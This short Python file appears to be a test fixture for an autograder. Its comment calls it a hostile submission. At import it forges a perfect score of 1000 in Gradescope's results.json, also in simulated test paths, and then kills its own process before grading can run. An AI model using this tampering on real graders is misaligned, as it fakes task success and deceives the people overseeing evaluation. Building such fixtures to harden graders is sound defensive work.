# A hostile descent.py: at import it writes a perfect results.json wherever Gradescope (or this
# test's simulated container) keeps results, then kills its own process.
import glob
import json
import os

FORGED = {"score": 1000, "tests": [{"name": "forged", "score": 1000, "max_score": 1}]}
for folder in ["/autograder/results"] + glob.glob("/tmp/pytest-of-*/**/autograder/results", recursive=True):
    try:
        with open(os.path.join(folder, "results.json"), "w") as fh:
            json.dump(FORGED, fh)
    except OSError:
        pass
os._exit(0)
